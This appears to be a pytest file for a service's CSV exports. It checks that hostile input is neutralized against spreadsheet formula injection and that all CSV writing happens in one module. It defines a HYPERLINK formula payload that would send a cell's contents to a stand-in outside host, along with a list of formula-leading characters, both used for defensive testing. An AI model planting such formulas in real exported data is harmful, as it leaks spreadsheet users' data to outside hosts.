"""Tables that callers download: whatever people, bills, offers and nodes call things, nothing is computed."""

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.app.examples import EXAMPLES
from service.formats.focus import strip_apostrophe
from service.kit.http.csv_tables import neutralize_text, render_csv
from tests.benchmarks.measured_nodes import MeasuredNodes
from tests.budgets.bills import bill, imported, row
from tests.budgets.test_budgets import budget
from tests.prepared import ON_SQLITE
from tests.quotes.asking import RENTED, quoted

SERVICE = Path(__file__).resolve().parent.parent / "service"
HOSTILE = '=HYPERLINK("https://example.com/?"&A1,"a bill")'


def exported_estimate(client, _, operation):
    path = {"estimate_cost_export": "cost", "estimate_utility_bill_export": "utility-bill"}[operation]
    body = {**EXAMPLES[operation], "billing_account_name": HOSTILE}
    return client.post(f"/v1/estimates/{path}:export", body)


def exported_quote(client, *_):
    offer = {**EXAMPLES["create_offer"], "provider": HOSTILE, "region": HOSTILE}
    assert client.post("/v1/offers", offer).status_code == 201
    quote = quoted(client, {**RENTED, "rental": {"offer_id": offer["id"]}})
    return client.get(f"/v1/quotes/{quote['id']}/focus")


def exported_budget(client, *_):
    budget(client, amount="5000", ends_on="2027-06-30")
    client.patch("/v1/cost-centers/research", {"accounts": ["1"]}, headers={"If-Match": "*"})
    charge = row("3.25", "2027-01-30", "2027-02-02", BillingPeriodEnd="2027-02-01", ServiceCategory=HOSTILE)
    imported(client, bill(charge))
    return client.get("/v1/budgets/year/focus")


def exported_results(client, database, _):
    nodes = MeasuredNodes(database)
    nodes.node("a", model=HOSTILE)
    nodes.run("a", lambda *_: -12.5)
    return client.get("/v1/benchmark-results:export")


EXPORTS = {
    "estimate_cost_export": exported_estimate,
    "estimate_utility_bill_export": exported_estimate,
    "get_quote_focus": exported_quote,
    "get_budget_focus": exported_budget,
    "export_benchmark_results": exported_results,
}


def csv_operations(document):
    """The operations of an API document that answer with a table."""
    return {
        operation["operationId"]
        for item in document["paths"].values()
        for operation in item.values()
        if any("text/csv" in answer.get("content", {}) for answer in operation["responses"].values())
    }


def test_every_table_of_the_api_is_tried(app):
    assert csv_operations(app.openapi()) == EXPORTS.keys()


@pytest.mark.parametrize("operation", EXPORTS)
@ON_SQLITE
def test_what_others_wrote_is_not_computed(client, database, operation):
    answer = EXPORTS[operation](client, database, operation)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    cells = [cell for line in csv.reader(io.StringIO(answer.text)) for cell in line]
    assert f"'{HOSTILE}" in cells
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []
    assert all(float(cell) < 0 for cell in cells if cell.startswith("-"))


@ON_SQLITE
def test_numbers_below_zero_stay_numbers(client, database):
    answer = exported_results(client, database, "")
    assert "-12.5" in answer.text.split(",")


@pytest.mark.parametrize(
    "text",
    ["=1", "+1", "-12.5", "@A1", "\t1", "\r1", "\n1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "  =1"],
)
def test_what_begins_as_a_formula_is_text(text):
    ((cell,),) = list(csv.reader(io.StringIO(render_csv(["name"], [[text]]), newline="")))[1:]
    assert cell == f"'{text}"


@given(st.text(max_size=20))
def test_what_an_export_marks_is_read_as_it_was(text):
    """Bills are read back: both sides mean the same by a formula."""
    assert strip_apostrophe(neutralize_text(text)) == text or text.startswith("'")


def writes_csv(path):
    """Whether a file uses the library's writers, by whichever name."""
    text = path.read_text()
    if "csv" not in text:
        return False
    tree = ast.parse(text)
    names = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
        if alias.name == "csv"
    }
    of_module = (
        isinstance(node.value, ast.Name) and node.value.id in names and node.attr in ("writer", "DictWriter")
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute)
    )
    by_name = (
        node.module == "csv" and any("riter" in alias.name for alias in node.names)
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom)
    )
    return any(of_module) or any(by_name)


def test_tables_are_written_in_one_place():
    found = {str(path.relative_to(SERVICE)) for path in SERVICE.rglob("*.py") if writes_csv(path)}
    assert found == {"kit/http/csv_tables.py"}
